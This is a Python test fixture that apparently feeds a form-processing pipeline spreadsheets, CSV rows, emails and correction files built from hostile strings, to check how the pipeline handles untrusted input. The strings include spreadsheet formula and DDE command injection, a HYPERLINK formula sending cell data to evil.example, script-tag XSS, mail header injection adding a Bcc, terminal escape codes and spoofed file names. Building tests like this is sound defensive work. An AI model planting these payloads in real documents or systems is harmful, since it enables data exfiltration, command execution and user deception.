"""A round in which every text that can come from outside does its worst."""

import io
import shutil
from base64 import b64encode
from email.message import EmailMessage
from pathlib import Path

import xlsxwriter

from pipeline.plan import load_plan
from schemas import forms
from tests.support.builders import example_row

ROUND = "2566-12"
TEXTS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"เปิด")',
    "=cmd|' /C calc'!A0",
    "{=1+1}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "]]></v><v>&amp;&lt;b&gt;",
    "ถึง\r\nBcc: victim@evil.example\r\n\r\n<b>",
    "\x1b[31mแดง\x1b]0;title\x07",
    "\x9b31m[red]x[/blue]",
    "\u202excod.exe\u202c",
    "\u200b=1+1",
    "ภ\u0e49\u0e49\u0e49\u0e49\u0e49",
    "ยาวมาก " * 300,
    "http://evil.example/",
    "external:c:\\evil.xlsx",
    "internal:'ปก'!A1",
    "%s {0} {heading} ${x}",
)
FILES = (
    "=HYPERLINK(1).xlsx",
    "<b>x.xlsx",
    "\x1b[31mr.xlsx",
    "\u202excod.xlsx",
    "-rf.xlsx",
    "[bold]x[red].xlsx",
    "ยาว" * 26 + ".xlsx",
)
STRANGER = "stranger@evil.example"


def hostile_round(inputs: Path, source: Path) -> Path:
    """The example's 12-month round with nothing received but what is written here."""
    received = inputs / ROUND / "received"
    received.mkdir(parents=True)
    shutil.copy(source / ROUND / "round.toml", inputs / ROUND)
    divisions = load_plan(inputs / ROUND, forms()).divisions
    senders = [*(each.senders[0] for each in divisions[len(FILES) :]), STRANGER]
    for number, name in enumerate(FILES):
        turned = TEXTS[number:] + TEXTS[:number]
        (received / name).write_bytes(workbook(turned if number < 3 else turned[:4]))
    sent = zip(FILES, divisions, strict=False)
    lines = [f'"{name}",2023-10-02T10:00,{each.name},"=1+1","<b>"' for name, each in sent]
    listed = "\n".join(["file,received_at,from,channel,note", *lines, ""])
    (received / "received.csv").write_text(listed, "utf-8")
    for number, text in enumerate(TEXTS):
        (received / f"{number:02}.eml").write_bytes(
            mail(number, text, senders[number % len(senders)])
        )
    (inputs / ROUND / "corrections.toml").write_text(entries(), "utf-8")
    return inputs


def workbook(texts: tuple[str, ...]) -> bytes:
    """Sheets of forms with headings of ours, in whose cells stand these texts and nothing else."""
    target = io.BytesIO()
    with xlsxwriter.Workbook(target) as book:
        for form in forms():
            if form.is_cover:
                continue
            sheet = book.add_worksheet(form.about.sheet)
            for place, column in enumerate(form.table_columns):
                sheet.write_string(0, place, column.th)
                sound = example_row(form).get(column.name, "")
                for row, text in enumerate(texts, 1):
                    worst = column.kind == "text" or row % 3 == 0
                    sheet.write_string(row, place, text if worst else sound)
            sheet.write_string(0, len(form.table_columns), texts[0])
            sheet.write_string(30, len(form.table_columns) + 3, texts[1])
        book.add_worksheet("[red]<b>".translate(str.maketrans("[]", "()"))).write_string(0, 0, "x")
    return target.getvalue()


def mail(number: int, text: str, sender: str) -> bytes:
    """A mail whose subject, sender's name and file name are such a text, encoded as mails are."""
    made = EmailMessage()
    made["Message-ID"] = f"<{number}@evil.example>"
    made["Received"] = "from x by y; Mon, 02 Oct 2023 10:00:00 +0700"
    made.set_content(text.replace("\r", "").replace("\x1b", "").replace("\x9b", ""))
    if number % 3:
        data = workbook((text, *TEXTS[:4]))
        made.add_attachment(data, "application", "octet-stream", filename="x.xlsx")
    name = "".join(f"%{byte:02X}" for byte in f"{text[:40]}.xlsx".encode())
    raw = made.as_bytes().replace(b'filename="x.xlsx"', f"filename*=utf-8''{name}".encode())
    hidden = f"=?utf-8?b?{b64encode(text[:60].encode()).decode()}?="
    return f"Subject: {hidden}\nFrom: {hidden} <{sender}>\n".encode() + raw


def entries() -> str:
    """Changes by hand whose words are such texts."""
    said = [text.encode("unicode_escape").decode() for text in TEXTS[:17]]
    quoted = [text.replace("\\x", "\\u00").replace('"', "'") for text in said]
    waivers = (
        f'[[waiver]]\ndivision = "05"\nform = "gift_report"\nreason = "{text}"\n'
        f'approved_by = "{text}"\nuntil = 2599-12-31\n'
        for text in quoted
    )
    explained = (
        f'[[explanation]]\ncode = "XPD-01"\nkey = "measures.3.period_text"\ntext = "{text}"\n'
        f'by = "{text}"\non = 2023-10-05\n'
        for text in quoted
    )
    return "\n".join([*waivers, *explained])
